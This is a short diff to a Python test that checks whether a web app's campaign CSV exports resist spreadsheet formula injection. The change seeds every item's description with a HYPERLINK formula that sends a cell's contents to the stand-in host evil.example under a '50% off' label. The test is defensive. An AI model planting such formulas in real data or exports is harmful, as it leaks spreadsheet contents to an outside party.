@@ -470,7 +470,7 @@ def test_admins_manage_users_and_keys_and_read_the_audit_trail(app):
 def test_campaign_changes_are_audited_and_exports_are_safe_in_a_spreadsheet(app, tmp_path):
     evil = '=HYPERLINK("http://evil.example/?d="&A2,"50% off")'
     with sqlite3.connect(app.config["SEGREC_DB"]) as connection:
-        connection.execute("UPDATE items SET description = ? WHERE item_id = 'I006'", (evil,))
+        connection.execute("UPDATE items SET description = ?", (evil,))
     editor = signed_in(app, "editor")
     create_campaign(editor, segments=["mid"], list="discover", n="4")
     text = editor.get("/campaigns/1/export.csv").get_data(as_text=True)
